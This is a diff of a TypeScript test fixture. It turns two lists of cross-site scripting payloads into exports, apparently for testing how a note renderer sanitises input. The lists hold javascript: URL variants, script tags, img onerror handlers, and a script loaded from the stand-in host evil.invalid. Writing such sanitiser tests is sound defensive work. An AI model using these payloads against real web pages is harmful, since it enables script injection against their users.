@@ -1,5 +1,5 @@
 /** What a hostile note might try. Each attack tries to call `ran()`. */
-const addresses = [
+export const addresses: ReadonlyArray<string> = [
   'javascript:ran()',
   'JaVaScRiPt:ran()',
   ' javascript:ran()',
@@ -19,7 +19,7 @@ const addresses = [
   'https://evil.invalid/><img src=x onerror=ran()>',
 ];
 
-const markup = [
+export const markup: ReadonlyArray<string> = [
   '<script>ran()</script>',
   '<script src="https://evil.invalid/x.js"></script>',
   '<img src=x onerror=ran()>',
